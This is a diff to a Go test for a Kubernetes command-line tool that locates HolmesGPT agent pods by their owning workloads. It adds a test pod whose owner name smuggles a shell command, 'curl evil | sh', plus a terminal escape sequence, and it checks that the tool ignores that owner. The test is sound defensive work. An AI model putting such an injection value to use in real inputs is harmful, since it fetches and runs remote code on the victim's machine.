@@ -13,9 +13,9 @@ import (
 )
 
 // TestAgentsByTheirPods: HolmesGPT is found by its pods where they belong to no workload that is read, as an Argo Rollout, once for each
-// controller, and not a second time where they belong to one.
+// controller, and not a second time where they belong to one. An owner that can be none, since its name is a command, is ignored.
 func TestAgentsByTheirPods(t *testing.T) {
-	t.Attr("req", "DTS-CLI-7")
+	t.Attr("req", "DTS-CLI-7 DTS-SEC-3")
 	spec := corev1.PodSpec{Containers: []corev1.Container{{Image: "robustadev/holmes:0.45.0"}}}
 	pod := func(name, kind, owner, hash string, phase corev1.PodPhase) corev1.Pod {
 		p := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: name}, Spec: spec, Status: corev1.PodStatus{Phase: phase}}
@@ -41,6 +41,7 @@ func TestAgentsByTheirPods(t *testing.T) {
 		pod("unread-0", "StatefulSet", "unread", "", corev1.PodRunning),
 		pod("ended", "Job", "ended", "", corev1.PodSucceeded),
 		pod("bare", "", "", "", corev1.PodRunning),
+		pod("named", "ReplicaSet", "x; curl evil | sh #\x1b[2J", "", corev1.PodRunning),
 	} {
 		e.add(ofPod(&p))
 	}
@@ -49,7 +50,7 @@ func TestAgentsByTheirPods(t *testing.T) {
 		w := &e.facts.Workloads[i]
 		got = append(got, w.Kind+" "+w.Name)
 	}
-	want := []string{"Deployment known", "StatefulSet known", "ReplicaSet rollout-6c", "Pod clone-0", "Pod unread-0", "Pod bare"}
+	want := []string{"Deployment known", "StatefulSet known", "ReplicaSet rollout-6c", "Pod clone-0", "Pod unread-0", "Pod bare", "Pod named"}
 	if !slices.Equal(got, want) {
 		t.Errorf("got  %q\nwant %q", got, want)
 	}
